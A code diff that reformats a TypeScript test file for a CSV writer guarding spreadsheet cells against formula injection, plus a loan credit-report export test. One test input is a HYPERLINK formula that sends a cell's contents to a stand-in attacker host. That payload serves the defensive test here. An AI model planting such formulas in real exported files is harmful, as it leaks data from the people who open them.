@@ -20,7 +20,9 @@ describe("safe CSV cells", () => {
     expect(safeCsvCell("@SUM(A1:A9)")).to.equal(`"'@SUM(A1:A9)"`);
     expect(safeCsvCell("\t=1")).to.equal(`"'\t=1"`);
     expect(safeCsvCell("\r=1")).to.equal(`"'\r=1"`);
-    expect(safeCsvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(safeCsvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).to.equal(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
+    );
     expect(safeCsvCell("-")).to.equal(`"'-"`);
   });
 
@@ -74,8 +76,18 @@ describe("the node's CSV reports are safe to open in a spreadsheet", () => {
   });
 
   it("credit report: the file of the node's own values is unchanged by the writer", () => {
-    const loan = { loanId: LOAN, borrowerKey: `0x${"aa".repeat(32)}`, principalFen: 5_000_000n, outstandingFen: 4_200_000n, state: "Active" as const, daysOverdue: 0, nextDueDay: 20_800 };
+    const loan = {
+      loanId: LOAN,
+      borrowerKey: `0x${"aa".repeat(32)}`,
+      principalFen: 5_000_000n,
+      outstandingFen: 4_200_000n,
+      state: "Active" as const,
+      daysOverdue: 0,
+      nextDueDay: 20_800,
+    };
     const { csv } = buildCreditReport("2026-11", [loan]);
-    expect(csv).to.equal(`month,loan_id,borrower_key,principal,balance,status,days_overdue,next_due_date\r\n2026-11,${LOAN},0x${"aa".repeat(32)},50000.00,42000.00,N,0,2026-12-13\r\n`);
+    expect(csv).to.equal(
+      `month,loan_id,borrower_key,principal,balance,status,days_overdue,next_due_date\r\n2026-11,${LOAN},0x${"aa".repeat(32)},50000.00,42000.00,N,0,2026-12-13\r\n`,
+    );
   });
 });
